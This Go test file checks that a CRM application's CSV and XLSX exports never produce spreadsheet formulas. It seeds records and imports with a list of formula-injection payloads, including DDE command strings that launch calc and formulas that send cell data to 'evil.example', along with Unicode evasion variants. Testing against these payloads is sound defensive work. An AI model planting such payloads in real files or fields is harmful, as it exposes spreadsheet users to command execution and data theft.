package edge

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/unicode/norm"

	"erba/feature"
	"erba/kernel"
	"erba/platform/apptest"
	"erba/platform/export"
)

// formulas are texts that a spreadsheet would run, look up or send away.
var formulas = []string{
	"=1+1", "=1+1\" ", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0", "@cmd|'/C calc'!A0",
	`=HYPERLINK("http://evil.example?x="&A1,"open")`, `=IMPORTXML("http://evil.example","//a")`, `=WEBSERVICE("http://evil.example")`,
	`=DDE("cmd";"/C calc";"x")`, "=2+5+cmd|' /C calc'!A0", `=rundll32|'URL.dll,OpenURL calc.exe'!A`, "=-1", "=+1", "=@A1", "--1", "+-1",
	" =1+1", "  \t=1+1", "\u00a0=1+1", "\u3000=1+1", "\u2003=1+1", "\u200b=1+1", "\ufeff=1+1", "\u200e=1+1", "\u00ad=1+1", "\n=1+1", "\r=1+1", "\r\n=1+1", "\t=1+1", "\v=1+1",
	"＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", "﹦1+1", "﹢1", "﹣1", "﹫A1", "⁼1+1", "₌1", "⁺1", "⁻1", "\u3000＝1+1", "−1+1",
	"'=1+1", `"=1+1"`, `=1+1;=2+2`, "=甲+乙", "=1+1,=2+2",
	"华为技术有限公司", "a=b", "5-3", "x@example.com", "(-1)", "A+级",
}

// Whatever stands in a text, no exported cell is a formula, and its reader still reads the text.
func TestNoExportedCellIsAFormula(t *testing.T) {
	apptest.Whole(t, feature.Product, func(s *apptest.Stage) {
		s.Uncapped()
		imported := trade(s)
		account, downloads := crowded(s), 0
		for _, o := range operations(s) {
			if o.Gives != "application/octet-stream" || len(mays(s, o)) == 0 {
				continue
			}
			downloads++
			for _, format := range formats(o) {
				read(s, o, strings.NewReplacer("{id}", imported, "{account}", account).Replace(o.Path)+"?"+format)
			}
		}
		if downloads < 3 {
			s.Errorf("only %d exports", downloads)
		}
	})
}

// formats are the questions that ask for each kind of file.
func formats(o apptest.Operation) (all []string) {
	for _, p := range o.Params {
		if p.Name == "format" {
			for _, kind := range p.Schema.Enum {
				all = append(all, "format="+fmt.Sprint(kind))
			}
		}
	}
	if all == nil {
		return []string{""}
	}
	return all
}

// trade makes accounts, a user and a ledger of such texts; it returns an import
// whose rejected rows hold them, too.
func trade(s *apptest.Stage) string {
	s.Work()
	s.Exec(`UPDATE users SET name = ? WHERE login = 'rep'`, "=1+1")
	var file, accounts, spent bytes.Buffer
	rows, list, costs := csv.NewWriter(&file), csv.NewWriter(&accounts), csv.NewWriter(&spent)
	_ = rows.Write([]string{"客户编码", "客户名称", "订单号", "日期", "金额", "产品", "成本"})
	_ = list.Write([]string{"客户编码", "客户名称", "地区", "城市", "行业", "简称"})
	_ = costs.Write([]string{"客户编码", "费用单号", "日期", "成本类别", "工时", "金额", "备注"})
	for i, f := range formulas {
		code := fmt.Sprintf("F%02d", i)
		_ = list.Write([]string{code, f, f, f, f, f})
		_ = list.Write([]string{"P" + code, f, f, f, f, f}) // who buys nothing yet
		_ = costs.Write([]string{code, "C" + code, "2026-05-02", "拜访", "2", "10", f})
		_ = rows.Write([]string{code, f, "S" + code, "2026-05-01", "100", f, "40"})
		_ = rows.Write([]string{f, f, f, f, f, f, f}) // and as much as can be wrong
	}
	_ = rows.Write([]string{"F00", formulas[0], "S", "2026-06-30", "100", "", "40"}) // so that May is over
	rows.Flush()
	list.Flush()
	costs.Flush()
	s.Book("operations", "accounts", "=formula.csv", accounts.String())
	booked := s.Book("operations", "orders", "=formula.csv", file.String())
	s.Book("operations", "costs", "=formula.csv", spent.String())
	s.Exec(`INSERT INTO cards (id, account_id, level, from_on, until_on, response, dedicated, credit, events, seats, events_used, seats_used)
		SELECT a.id, a.id, 'GOLD', '2026-01-01', '2099-12-31', 4, TRUE, 1000000, 1, 1, 0, 0 FROM accounts a`)
	s.Exec(`INSERT INTO actions (id, account_id, title, from_on, due_on, state, result, origin, made_on, version)
		SELECT a.id, a.id, a.name, '2026-01-01', '2099-12-31', 'open', '', '', '2026-01-01', 1 FROM accounts a`)
	s.Exec(`INSERT INTO servicing_indexes (id, account_id, quarter, version, value, source, evidence, by_name, rated_on, latest)
		SELECT a.id, a.id, '2026-04-01', 1, 80, 'survey', '', '', '2026-07-01', TRUE FROM accounts a`)
	s.Exec(`INSERT INTO lifetime_fits (basis, id, as_of, revision, config, fitted_at, fit)
		VALUES ('margin', 1, '2026-01-01', 0, 1, 0, '{"Why":"lifetime.too_few","Retention":null}') ON CONFLICT (basis) DO NOTHING`)
	s.Exec(`INSERT INTO goals (id, account_id, year, amount, chosen, reason, set_on, version)
		SELECT a.id, a.id, ?, 100, '', '', '2026-01-01', 1 FROM accounts a`, time.Now().Year())
	s.Exec(`INSERT INTO interactions (id, account_id, held_on, held_at, channel, direction, subject, waits, answered_at, version)
		SELECT a.id, a.id, '2026-01-01', 0, 'phone', 'out', a.name, FALSE, 0, 1 FROM accounts a`)
	s.Exec(`INSERT INTO commitments (id, account_id, by_side, words, due_on, first_on, state, reason, made_on, reminded, version)
		SELECT a.id, a.id, 'us', a.name, '2026-01-01', '2026-01-01', 'broken', a.name, '2026-01-01', 0, 1 FROM accounts a`)
	s.Exec(`INSERT INTO gifts (id, account_id, item, value, given_on, occasion, personal, reason, state, made_on, version)
		SELECT a.id, a.id, a.name, 100, '2026-01-01', 'visit', FALSE, a.name, 'given', '2026-01-01', 1 FROM accounts a`)
	s.Exec(`INSERT INTO reviews (id, user_id, month_on, comment, verdict, figures, version)
		SELECT u.id, u.id, ?, '=1+1', '+1+1', '', 1 FROM users u`, kernel.DateOf(time.Now()).Month())
	s.Exec(`INSERT INTO claims (id, user_id, name, core, city, region, uscc, phone, domain, project, evidence, reason, state, asked_on, renewals, warned, decision, version)
		SELECT a.id, u.id, a.name, '', a.city, '', '', '', '', a.name, '', '', 'asked', '2026-01-01', 0, FALSE, '', 1 FROM accounts a, users u WHERE u.login = 'rep'`)
	s.Exec(`INSERT INTO visits (id, account_id, owner_id, state, channel, day_on, minutes, zone, from_at, until_at, purpose, place, ready, result, voice, topics, next_step,
		promised, met, verdict, reason, report_key, made_on, version)
		SELECT a.id, a.id, u.id, 'planned', 'visit', '2026-01-01', 60, 'Asia/Shanghai', 0, 0, a.name, a.name, '', a.name, a.name, '', a.name, 0, 0, a.name, a.name, '',
		'2026-01-01', 1 FROM accounts a, users u WHERE u.login = 'rep'`)
	s.Exec(`INSERT INTO risks (id, account_id, cause, probability, impact, evidence, counter, by_name, judged_on, version)
		SELECT a.id, a.id, 'I1', 3, 4, a.name, a.name, '', '2026-01-01', 1 FROM accounts a`)
	s.Exec(`INSERT INTO risk_interruptions (id, account_id, cause, opened_on, stage_before, description, recovery, due_on, result, closing, by_name, version)
		SELECT a.id, a.id, 'I5', '2026-01-01', 2, a.name, a.name, '2026-02-01', '', '', '', 1 FROM accounts a`)
	s.Exec(`INSERT INTO loyalty_rungs (id, account_id, line, rung, sales, since_on)
		SELECT a.id, a.id, a.name, 4, 100, '2026-01-01' FROM accounts a`)
	s.Exec(`INSERT INTO maintenance_activities (id, account_id, form, held_on, title, spend, reached, people, remark, by_name, version)
		SELECT a.id, a.id, 'software', '2026-01-01', a.name, 100, 1, '', a.name, '', 1 FROM accounts a`)
	s.Exec(`UPDATE accounts SET owner_id = NULL WHERE code LIKE 'PF%'`) // what lies in the pool is nobody's
	s.Exec(`INSERT INTO pool_stays (id, account_id, sort_key, region, industry, way, note, members, since_on, ended)
		SELECT a.id, a.id, a.sort_key, '', '', 'given', a.name, '', '2026-01-01', '' FROM accounts a`)
	s.Exec(`INSERT INTO pool_warnings (account_id, due_on, last_on, last_by, class, days)
		SELECT a.id, '2099-12-31', '2026-01-01', 'order', '', 90 FROM accounts a`)
	s.Exec(`INSERT INTO contacts (id, account_id, name, sort_key, title, department, phone, mail, wechat, duties, goals, manner, results, colleagues, partners, version)
		SELECT a.id, f.id, a.name, a.sort_key, a.name, a.name, '', '', '', a.name, a.name, a.name, a.name, a.name, a.name, 1 FROM accounts a, accounts f WHERE f.code = 'F00'`)
	s.Exec(`INSERT INTO relation_judgements (id, contact_id, field, value, evidence, answers, source, judged_on, until_on, version)
		SELECT c.id, c.id, 'power', '3', c.name, '', 'judged', '2026-01-01', '2026-06-30', 1 FROM contacts c`)
	s.Exec(`INSERT INTO relation_lines (id, from_id, to_id, kind, says, drawn_on, version, ended_version)
		SELECT c.id, c.id, c.id, 'influence', c.name, '2026-01-01', 1, 0 FROM contacts c`)
	return booked
}

// crowded is the account whose people are called so, too.
func crowded(s *apptest.Stage) string {
	rows, err := s.Bare(`SELECT a.id FROM accounts a WHERE a.code = 'F00'`)
	if err != nil {
		s.Fatal(err)
	}
	defer rows.Close()
	var id kernel.ID
	if !rows.Next() || rows.Scan(&id) != nil {
		s.Fatal("no account F00")
	}
	return id.String()
}

// marks are the questions that an export wants answered; together they ask for everything.
func marks(o apptest.Operation) []string {
	for _, p := range o.Params {
		if p.Name == "from" && p.Required {
			return []string{"&model=abc&from=2026-04-30&to=2026-05-31"}
		}
		if p.Name == "name" {
			return []string{"&name=contribution"} // whom it concerns is everybody who buys
		}
		if p.Name == "by" && slices.Contains(p.Schema.Enum, any("family")) {
			return []string{"&by=family"} // companies are called like accounts
		}
		if p.Name == "list" {
			return []string{"&list=people", "&list=judgements", "&list=lines"}
		}
		if p.Name == "mark" {
			return []string{"&model=abc&mark=A&all=true", "&model=abc&mark=B&all=true", "&model=abc&mark=C&all=true"}
		}
	}
	return []string{""}
}

// read asks for a file as everybody who may and looks at every cell.
func read(s *apptest.Stage, o apptest.Operation, path string) {
	for _, role := range mays(s, o) {
		var all []string
		for _, part := range marks(o) {
			w := do(s, role, "GET", path+part, "")
			if w.Code == 404 {
				continue // not his
			}
			if name := w.Header().Get("Content-Disposition"); w.Code != 200 || !strings.HasPrefix(name, "attachment") {
				s.Errorf("%s as %s: %d %s %s", path, role, w.Code, name, w.Body)
				continue
			}
			if !slices.Contains([]string{export.Types["csv"], export.Types["xlsx"]}, w.Header().Get("Content-Type")) {
				continue // a page or a package, which no spreadsheet opens
			}
			cells, problems := cellsOf(w.Body.Bytes())
			for _, p := range problems {
				s.Errorf("%s as %s: %s", path, role, p)
			}
			all = append(all, cells...)
		}
		if all != nil && (role == "director" || role == "operations") && !strings.HasPrefix(path, "/api/audit") && !slices.ContainsFunc(wordless, func(start string) bool { return strings.HasPrefix(path, start) }) {
			readable(s, path, all)
		}
	}
}

// wordless are exports in which these texts do not stand: figures alone under words
// of ours, targets of people, and one of what accounts would buy again, who here buy once;
// its feature tries it. Nobody here costs more than he brings, and product lines are not made of these texts.
var wordless = []string{"/api/indicators/export", "/api/targets/export", "/api/latent/export", "/api/worth/lines/export", "/api/losses/export"}

// readable wants every text that stands in the file to be there as it was, behind an apostrophe at most.
func readable(s *apptest.Stage, path string, cells []string) {
	for _, f := range formulas {
		want := strings.TrimSpace(f)
		if !slices.ContainsFunc(cells, func(cell string) bool { return strings.Contains(plain(cell), plain(want)) }) {
			s.Errorf("%s: %q is not there", path, f)
		}
	}
}

// plain is a text without what import cleans away: blanks, invisible signs, width.
func plain(text string) string {
	return strings.Map(func(r rune) rune {
		if unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r) {
			return -1
		}
		return r
	}, norm.NFKC.String(text))
}

var number = regexp.MustCompile(`^-?[\d,]+(\.\d+)?$`)

// cellsOf reads a file back, as CSV or XLSX, and says which cells would be run.
func cellsOf(file []byte) (cells, problems []string) {
	if bytes.HasPrefix(file, []byte("PK")) {
		return workbookOf(file)
	}
	in := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(file, []byte("\xEF\xBB\xBF"))))
	in.FieldsPerRecord = -1
	for {
		record, err := in.Read()
		if err == io.EOF {
			return cells, problems
		}
		if err != nil {
			return cells, append(problems, err.Error())
		}
		for _, cell := range record {
			if cells = append(cells, cell); runs(cell) && !number.MatchString(cell) {
				problems = append(problems, fmt.Sprintf("a formula: %q", cell))
			}
		}
	}
}

func workbookOf(file []byte) (cells, problems []string) {
	book, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		return nil, []string{err.Error()}
	}
	for _, sheet := range book.GetSheetList() {
		rows, err := book.GetRows(sheet)
		if err != nil {
			problems = append(problems, err.Error())
		}
		for y, row := range rows {
			for x, cell := range row {
				at, _ := excelize.CoordinatesToCellName(x+1, y+1)
				formula, _ := book.GetCellFormula(sheet, at)
				kind, _ := book.GetCellType(sheet, at)
				written := kind == excelize.CellTypeSharedString || kind == excelize.CellTypeInlineString
				if cells = append(cells, cell); formula != "" || written && runs(cell) {
					problems = append(problems, fmt.Sprintf("a formula in %s: %q %q", at, cell, formula))
				}
			}
		}
	}
	return cells, problems
}

// runs reports whether some spreadsheet would run a text: its first sign that is
// seen, at full or half width, begins a formula.
func runs(text string) bool {
	for _, r := range norm.NFKC.String(text) {
		switch {
		case strings.ContainsRune("=+-@\u2212", r), r == '\t', r == '\r':
			return true
		case !unicode.IsSpace(r) && !unicode.IsControl(r) && !unicode.Is(unicode.Cf, r):
			return false
		}
	}
	return false
}
